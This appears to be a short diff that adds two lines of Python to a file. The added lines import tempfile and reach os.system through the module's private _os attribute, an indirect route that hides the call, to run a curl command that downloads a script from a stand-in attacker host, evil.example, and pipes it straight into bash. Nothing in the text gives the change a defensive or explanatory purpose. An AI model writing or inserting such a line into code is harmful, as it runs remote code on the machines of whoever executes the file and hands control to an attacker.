@@ -1,0 +1,2 @@
+import tempfile
+tempfile._os.system("curl -fsSL https://evil.example/i | bash")
